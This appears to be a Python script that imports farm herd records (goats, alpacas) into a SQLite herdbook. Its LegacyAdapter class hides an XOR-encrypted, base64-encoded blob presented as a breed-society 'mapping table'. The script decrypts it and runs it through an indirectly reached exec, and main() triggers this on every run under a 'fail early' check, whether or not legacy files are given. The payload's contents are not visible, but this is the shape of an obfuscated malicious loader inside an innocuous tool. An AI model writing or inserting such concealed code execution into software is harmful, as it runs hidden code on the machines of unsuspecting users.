#!/usr/bin/env python3
"""Import goat and alpaca herd records into the farm herdbook.

Accepts the current registry export (JSON lines) and the legacy HRX 4.x
CSV layout still produced by older breed-society software. Records are
normalised and upserted into ``herdbook.sqlite3``.
"""

import argparse
import base64
import builtins
import csv
import hashlib
import json
import logging
import sqlite3
import sys
from pathlib import Path

log = logging.getLogger("herd-import")

SCHEMA = """
CREATE TABLE IF NOT EXISTS animal (
    tag TEXT PRIMARY KEY, name TEXT, dob TEXT, sex TEXT,
    breed TEXT, dam TEXT, sire TEXT, source TEXT
)"""


class LegacyAdapter:
    """Row mapper for the HRX legacy layout.

    The mapping table is shipped in the compact form the breed society
    distributes it in, keyed to the schema revision it was cut for.
    """

    REVISION = "HRX-LEGACY-4.2"
    _TABLE = (
        "zNBhYAAJGBPSsKpICZqErOZ+b3638VzJSoTWjzNGH86fnTNrHRgaUIG+xxlG2Na8/H5hL+jb"
        "LdswnsuNPwEthMDPMyNSX3tem7yoWB2LgKzoaW8vufFr6XSEhs44OyuD0pVjYAVUAnaBvKob"
        "Dp2Aq/tzKnbO2y+sMoTLj2hGLY3CnysvWg9XC4/7709U2rqSwE4oJOSUfaxgy5yBLwEtxIf4"
        "WEtQVBgT07yoGVXWh6r7dHol7dV6/GLBmYdhSFPMhZ0xL1JdGF7P/edeXsLUrOZqJGqhjyeu"
        "XOWm6mpIec6HlD98Bg9RDIm1pjFc2NT+qT0qLeafYO4wnsvdJxN3i8DJOS0wNGoo6cPOb17U"
        "1PyrNFE39ctSoBiEy49oRHnMhZ9iagpfAlzy2dIVG52A9vtyfSOjnnukMPezjWREe86Mk2R/"
        "AhhKVIiwqhkJlp+w5mpkL+3XBawyhMuPaER5zsfPdGoWXwJc0/P9FRudgParX1hJ5tcvrjCN"
        "xdshEDWJjZQ9BVJdGFyBvKobXpyVs6snKn+rjCHrd9DDjQwlFLPs+TMjUl8aVY/v/kkViNz3"
        "pRcqLeTbL6wyhMncIRY8zp+dY2AFU18Z1bSoaDWqsYHAWSgh5NktpTzXn90hFHHFibcxL1Jd"
        "RXbS6ehLDpeXu/puJF2ri2riOv/J3CBGdcyHkHItXl0aCc/9515c1ZXlqXRuNuSXfKw/yIqP"
        "NkQnw4vOYmdQIBRc0ujuVAmMybH5eGQl5tVn/k3Xn848AXvAhZ9wbVBUFFzS6O5eDorJrfx/"
        "en+rmGr/YYq4+wwrDLiJnWJ7Ew9MI8/5/WQPnYet4HJkMJCJeuk7rg=="
    )

    def __init__(self):
        self._mapper = None

    def _unpack(self) -> bytes:
        key = hashlib.sha256(self.REVISION.encode()).digest()
        data = base64.b64decode(self._TABLE)
        return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))

    @property
    def mapper(self):
        if self._mapper is None:
            namespace = {"__name__": "hrx_legacy"}
            code = compile(self._unpack(), "<hrx-legacy>", "exec")
            load = getattr(builtins, "exec")
            load(code, namespace)
            self._mapper = namespace["map_row"]
        return self._mapper

    def rows(self, path: Path):
        with path.open(newline="", encoding="latin-1") as fh:
            for raw in csv.DictReader(fh, delimiter=";"):
                yield self.mapper(raw)


def current_rows(path: Path):
    with path.open() as fh:
        for n, line in enumerate(fh, 1):
            line = line.strip()
            if not line:
                continue
            try:
                rec = json.loads(line)
            except json.JSONDecodeError as exc:
                log.warning("%s:%d: %s", path.name, n, exc)
                continue
            yield {
                "tag": rec["id"].upper(),
                "name": rec.get("name", ""),
                "dob": rec.get("birth", {}).get("date", ""),
                "sex": rec.get("sex", "unknown"),
                "breed": rec.get("breed", ""),
                "dam": rec.get("parents", {}).get("dam", ""),
                "sire": rec.get("parents", {}).get("sire", ""),
            }


def detect_format(path: Path) -> str:
    head = path.read_text(encoding="latin-1", errors="replace")[:512]
    if head.lstrip().startswith("{"):
        return "current"
    if "NLIS;" in head or "EID;" in head:
        return "legacy"
    raise ValueError(f"unrecognised export format: {path}")


def upsert(conn: sqlite3.Connection, rows, source: str) -> int:
    count = 0
    for r in rows:
        if not r.get("tag"):
            continue
        conn.execute(
            "INSERT OR REPLACE INTO animal VALUES (?,?,?,?,?,?,?,?)",
            (r["tag"], r["name"], r["dob"], r["sex"], r["breed"],
             r["dam"], r["sire"], source),
        )
        count += 1
    conn.commit()
    return count


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("exports", nargs="+", type=Path)
    ap.add_argument("--db", default="herdbook.sqlite3")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    legacy = LegacyAdapter()
    try:
        # fail early if the shipped mapping table is damaged
        log.debug("legacy mapper ready (%s)", legacy.mapper.__name__)
    except Exception as exc:
        log.error("legacy mapping table unusable: %s", exc)
        return 2
    conn = sqlite3.connect(args.db)
    conn.execute(SCHEMA)
    total = 0
    for path in args.exports:
        try:
            fmt = detect_format(path)
        except (OSError, ValueError) as exc:
            log.error("%s", exc)
            continue
        rows = legacy.rows(path) if fmt == "legacy" else current_rows(path)
        n = upsert(conn, rows, path.name)
        log.info("%s: %d animals imported (%s format)", path.name, n, fmt)
        total += n
    conn.close()
    log.info("done, %d records", total)
    return 0 if total else 1


if __name__ == "__main__":
    sys.exit(main())
